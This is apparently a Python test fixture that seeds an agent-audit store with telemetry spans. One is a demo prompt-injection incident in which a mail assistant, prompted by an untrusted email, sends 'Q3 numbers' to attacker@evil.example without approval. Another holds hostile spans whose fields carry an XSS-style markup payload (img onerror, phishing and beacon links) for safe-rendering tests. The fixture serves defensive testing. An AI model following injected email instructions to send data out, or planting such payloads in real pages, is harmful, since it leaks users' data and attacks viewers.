"""Seed a store with the demo injection incident and benign traffic (tests, e2e, docs).

The spans go through the real write path (normalise -> Arrow -> insert) via
:class:`~agentaudit.collector.writer.writer.Writer`. Run as a script to seed a store directory:
``python -m tests.dashboards.seed_store chdb:///tmp/store`` (from the repository root);
``--hostile`` adds :func:`hostile_incident` and the hostile quarantine and revocation
rows of :func:`seed_hostile` (the safe-rendering tests).
"""

from __future__ import annotations

import hashlib
import json
import sys
import time
from typing import Any

from agentaudit.collector.model import SpanRecord
from agentaudit.collector.writer.writer import Writer
from agentaudit.schema import attributes as A
from agentaudit.store import Store
from agentaudit.store.migrations import apply_migrations

DEMO_SESSION = "sess-demo-injection"
DEMO_AGENT = "mail-assistant"
DEMO_USER = "alice@example.com"
DEMO_TRACE = "0af7651916cd43dd8448eb211c80319c"
DEMO_EMAIL = "email:msg-42"
DEMO_CREDENTIAL = "cred-mail-7f3a"
SECOND = 1_000_000_000

# Markup a hostile agent puts in every text field of its spans: emphasis, a disguised
# link, a tracking image, HTML, Streamlit's colour directive, LaTeX, emoji, a material
# icon and the Streamlit logo shortcode, a bare URL and e-mail address (autolinked),
# a typographic arrow, backticks, and newlines that start a table and a heading.
EVIL_HOST = "evil.example"
HOSTILE_MARKUP = (
    "**bold** [click](https://evil.example/phish) ![x](https://evil.example/beacon.png) "
    "<img src=https://evil.example/html.png onerror=alert(1)> :red[red] $\\LaTeX$ "
    ":smile: :material/home: :streamlit: https://evil.example/bare x@evil.example "
    "a -> b `tick` ``two``\n| a | b |\n|---|---|\n# Owned"
)


def hostile(field: str) -> str:
    """The value a hostile agent records in ``field``: its name, then the markup."""
    return f"{field} {HOSTILE_MARKUP}"


HOSTILE_AGENT = hostile("agent")
HOSTILE_SESSION = hostile("session")
HOSTILE_TRACE = "6e1f0c0ffee0ddba11deadbeefcafe01"
HOSTILE_TOOL = hostile("tool")
HOSTILE_OLD_TOOL = hostile("old-tool")


def _hash(text: str) -> str:
    return "sha256:" + hashlib.sha256(text.encode()).hexdigest()


def _span_id(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()[:16]


def _trace_id(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()[:32]


def _context(agent: str, user: str, session: str) -> dict[str, Any]:
    return {
        A.GEN_AI_AGENT_ID: agent,
        A.GEN_AI_AGENT_NAME: agent,
        A.ENDUSER_ID: user,
        A.SESSION_ID: session,
        A.FRAMEWORK: "function",
    }


def chat_span(
    *,
    trace: str,
    name: str,
    start_ns: int,
    agent: str,
    user: str,
    session: str,
    prompt_hash: str,
    sources: list[tuple[str, str, str]],
    model: str = "gpt-4o",
) -> SpanRecord:
    attrs = _context(agent, user, session)
    attrs.update(
        {
            A.GEN_AI_OPERATION_NAME: A.OPERATION_CHAT,
            A.GEN_AI_REQUEST_MODEL: model,
            A.PROMPT_HASH: prompt_hash,
            A.SOURCE_REFS: [s[0] for s in sources],
            A.SOURCE_KINDS: [s[1] for s in sources],
            A.SOURCE_TRUST: [s[2] for s in sources],
            A.SOURCE_HASHES: [_hash(s[0]) for s in sources],
        }
    )
    return SpanRecord(
        trace_id=trace,
        span_id=_span_id(name),
        name=f"chat {model}",
        start_ns=start_ns,
        end_ns=start_ns + SECOND,
        kind="Client",
        attributes=attrs,
        resource_attributes={A.SERVICE_NAME: agent},
    )


def tool_span(
    *,
    trace: str,
    name: str,
    start_ns: int,
    agent: str,
    user: str,
    session: str,
    tool: str,
    arguments: dict[str, Any],
    prompt_hash: str,
    sources: list[tuple[str, str, str]],
    resources: list[str],
    credential: str,
    scopes: list[str],
    expires_at: int,
    approval: str = A.APPROVAL_NONE,
    approver: str = "",
    error: str = "",
) -> SpanRecord:
    attrs = _context(agent, user, session)
    attrs.update(
        {
            A.GEN_AI_OPERATION_NAME: A.OPERATION_EXECUTE_TOOL,
            A.GEN_AI_TOOL_NAME: tool,
            A.GEN_AI_TOOL_CALL_ID: f"call_{name}",
            A.GEN_AI_TOOL_TYPE: "function",
            A.GEN_AI_TOOL_CALL_ARGUMENTS: json.dumps(arguments),
            A.ARGUMENTS_HASH: _hash(json.dumps(arguments, sort_keys=True)),
            A.RESULT_HASH: _hash(f"result of {name}"),
            A.PROMPT_HASH: prompt_hash,
            A.SOURCE_REFS: [s[0] for s in sources],
            A.SOURCE_KINDS: [s[1] for s in sources],
            A.SOURCE_TRUST: [s[2] for s in sources],
            A.SOURCE_HASHES: [_hash(s[0]) for s in sources],
            A.RESOURCE_IDS: resources,
            A.APPROVAL_STATUS: approval,
            A.CREDENTIAL_ID: credential,
            A.CREDENTIAL_SCOPES: scopes,
            A.CREDENTIAL_EXPIRES_AT: expires_at,
        }
    )
    if approver:
        attrs[A.APPROVAL_APPROVER] = approver
    if error:
        attrs[A.ERROR_TYPE] = error
    return SpanRecord(
        trace_id=trace,
        span_id=_span_id(name),
        name=f"{A.TOOL_SPAN_PREFIX}{tool}",
        start_ns=start_ns,
        end_ns=start_ns + SECOND // 4,
        status_code="Error" if error else "Unset",
        attributes=attrs,
        resource_attributes={A.SERVICE_NAME: agent},
    )


def demo_incident(now_ns: int) -> list[SpanRecord]:
    """read_inbox -> chat (prompted by email:msg-42) -> send_email, unapproved."""
    t0 = now_ns - 3600 * SECOND
    common = {"trace": DEMO_TRACE, "agent": DEMO_AGENT, "user": DEMO_USER, "session": DEMO_SESSION}
    expires = now_ns // SECOND + 3600
    scopes = ["email.read", "email.send", "contacts.read"]
    user_turn = ("user:alice#turn-1", "user", A.TRUST_USER)
    p1, p2 = _hash("prompt-1"), _hash("prompt-2")
    injected = [
        user_turn,
        ("tool:read_inbox#call_1", "tool_result", A.TRUST_UNTRUSTED),
        (DEMO_EMAIL, "email", A.TRUST_UNTRUSTED),
    ]
    return [
        chat_span(name="demo-chat-1", start_ns=t0, prompt_hash=p1, sources=[user_turn], **common),
        tool_span(
            name="demo-read-inbox",
            start_ns=t0 + 2 * SECOND,
            tool="read_inbox",
            arguments={"folder": "INBOX", "limit": 10},
            prompt_hash=p1,
            sources=[user_turn],
            resources=["email:inbox/alice"],
            credential=DEMO_CREDENTIAL,
            scopes=scopes,
            expires_at=expires,
            **common,
        ),
        chat_span(
            name="demo-chat-2", start_ns=t0 + 4 * SECOND, prompt_hash=p2, sources=injected, **common
        ),
        tool_span(
            name="demo-send-email",
            start_ns=t0 + 6 * SECOND,
            tool="send_email",
            arguments={
                "to": "attacker@evil.example",
                "subject": "Q3 numbers",
                "body": "[REDACTED:email]",
            },
            prompt_hash=p2,
            sources=injected,
            resources=["email:outbound/attacker@evil.example"],
            credential=DEMO_CREDENTIAL,
            scopes=scopes,
            expires_at=expires,
            **common,
        ),
    ]


def benign_sessions(now_ns: int, count: int = 6) -> list[SpanRecord]:
    """Approved calendar and research work, spread over the last day."""
    spans: list[SpanRecord] = []
    for i in range(count):
        start = now_ns - (2 + 3 * i) * 3600 * SECOND
        if i % 2 == 0:
            agent, user, tool, resource = (
                "calendar-bot",
                "bob@example.com",
                "create_event",
                f"calendar:evt-{i}",
            )
            scopes, approval, approver = (
                ["calendar.read", "calendar.write"],
                A.APPROVAL_HUMAN,
                "bob@example.com",
            )
            sources = [(f"user:bob#turn-{i}", "user", A.TRUST_USER)]
        else:
            agent, user, tool, resource = (
                "research-agent",
                "carol@example.com",
                "web_search",
                f"url:https://example.org/{i}",
            )
            scopes, approval, approver = ["web.search"], A.APPROVAL_POLICY, "policy:allow-search"
            sources = [
                (f"user:carol#turn-{i}", "user", A.TRUST_USER),
                (f"url:https://news.example/{i}", "web", A.TRUST_UNTRUSTED),
            ]
        session, trace, prompt = f"sess-benign-{i}", _trace_id(f"benign-{i}"), _hash(f"benign-{i}")
        common = {"trace": trace, "agent": agent, "user": user, "session": session}
        spans.append(
            chat_span(
                name=f"benign-chat-{i}",
                start_ns=start,
                prompt_hash=prompt,
                sources=sources,
                **common,
            )
        )
        for j in range(3):
            spans.append(
                tool_span(
                    name=f"benign-{i}-{j}",
                    start_ns=start + (1 + j) * SECOND,
                    tool=tool,
                    arguments={"n": j, "title": f"task {i}"},
                    prompt_hash=prompt,
                    sources=sources,
                    resources=[resource],
                    credential=f"cred-{agent}-{i}",
                    scopes=scopes,
                    expires_at=now_ns // SECOND + 7200,
                    approval=approval,
                    approver=approver,
                    error="TimeoutError" if (i, j) == (1, 2) else "",
                    **common,
                )
            )
    return spans


def hostile_incident(now_ns: int) -> list[SpanRecord]:
    """A session where every text field holds :data:`HOSTILE_MARKUP`.

    A model call prompted by untrusted content, then an unapproved, failed tool call
    (so it is on the Overview's "no human asked for this" list); three days earlier
    the same agent used another tool (its baseline, so the Agent profile flags the
    new one). Trace and span ids stay hex, as OTLP makes them.
    """
    t0 = now_ns - 1800 * SECOND
    common = {"agent": HOSTILE_AGENT, "user": hostile("user"), "session": HOSTILE_SESSION}
    prompt = hostile("prompt-hash")
    sources = [(hostile("source-ref"), hostile("source-kind"), A.TRUST_UNTRUSTED)]
    tool_fields: dict[str, Any] = {
        "prompt_hash": prompt,
        "sources": sources,
        "resources": [hostile("resource")],
        "credential": hostile("credential"),
        "scopes": [hostile("scope")],
        "expires_at": now_ns // SECOND + 3600,
        "approver": hostile("approver"),
        "error": hostile("error-type"),
    }
    return [
        chat_span(
            trace=HOSTILE_TRACE,
            name="hostile-chat",
            start_ns=t0,
            prompt_hash=prompt,
            sources=sources,
            model=hostile("model"),
            **common,
        ),
        tool_span(
            trace=HOSTILE_TRACE,
            name="hostile-tool",
            start_ns=t0 + 2 * SECOND,
            tool=HOSTILE_TOOL,
            arguments={"to": hostile("argument"), hostile("argument-key"): 1},
            **tool_fields,
            **common,
        ),
        tool_span(
            trace=_trace_id("hostile-baseline"),
            name="hostile-baseline",
            start_ns=now_ns - 3 * 86400 * SECOND,
            tool=HOSTILE_OLD_TOOL,
            arguments={"n": 0},
            **tool_fields,
            **common,
        ),
    ]


def seed_hostile(store: Store, now_ns: int | None = None) -> None:
    """Write :func:`hostile_incident`, a hostile quarantine row and revocation row.

    The last two stand for what the admin API records (it quotes the agent's ids and
    the backends' answers); they are inserted with server-side parameters.
    """
    now_ns = time.time_ns() if now_ns is None else now_ns
    writer = Writer(store)
    writer.enqueue(hostile_incident(now_ns))
    writer.flush()
    store.command(
        "INSERT INTO agentaudit.quarantine (agent_id, updated_at, state, since, reason, actor, "
        "revocation_id) VALUES ({agent:String}, now64(6), 'quarantined', now64(6), "
        "{reason:String}, {actor:String}, {rev:String})",
        {
            "agent": HOSTILE_AGENT,
            "reason": hostile("quarantine-reason"),
            "actor": hostile("actor"),
            "rev": hostile("revocation-id"),
        },
    )
    store.command(
        "INSERT INTO agentaudit.revocations (id, requested_at, updated_at, target, target_id, "
        "reason, requested_by, status, results) VALUES ({rev:String}, now64(3), now64(3), "
        "'agent', {agent:String}, {reason:String}, {who:String}, 'partial', "
        "map('webhook', {webhook:String}, {backend:String}, {raw:String}))",
        {
            "rev": hostile("revocation-id"),
            "agent": HOSTILE_AGENT,
            "reason": hostile("revocation-reason"),
            "who": hostile("requested-by"),
            "webhook": json.dumps({"ok": False, "attempts": 3, "detail": hostile("detail")}),
            "backend": hostile("backend"),
            "raw": hostile("raw-result"),
        },
    )


def seed(store: Store, now_ns: int | None = None, *, hostile_rows: bool = False) -> None:
    """Apply migrations and write the demo incident plus benign sessions.

    With ``hostile_rows``, also :func:`seed_hostile` (the safe-rendering tests).
    """
    now_ns = time.time_ns() if now_ns is None else now_ns
    apply_migrations(store)
    writer = Writer(store)
    writer.enqueue(demo_incident(now_ns) + benign_sessions(now_ns))
    writer.flush()
    if hostile_rows:
        seed_hostile(store, now_ns)


if __name__ == "__main__":
    with Store.open(sys.argv[1]) as target:
        seed(target, hostile_rows="--hostile" in sys.argv[2:])
